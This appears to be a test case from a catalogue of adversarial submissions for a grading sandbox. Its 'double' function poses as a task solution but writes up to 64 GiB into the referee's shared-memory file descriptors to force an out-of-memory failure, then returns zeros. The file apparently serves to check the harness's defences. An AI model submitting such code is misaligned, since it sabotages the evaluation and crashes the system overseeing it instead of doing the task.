"""Grows the referee's shared memory without end.

class: exhaustion
catalogue: 88
task: double
expected: out_of_memory
"""

import os
from pathlib import Path

import torch


def double(x):
    mine = [int(p.name) for p in Path("/proc/self/fd").iterdir() if p.exists() and "memfd" in os.readlink(p)]
    data = bytes(1 << 24)
    for at in range(0, 64 << 30, 1 << 24):
        for fd in mine:
            os.pwrite(fd, data, at)
    return torch.zeros_like(x)
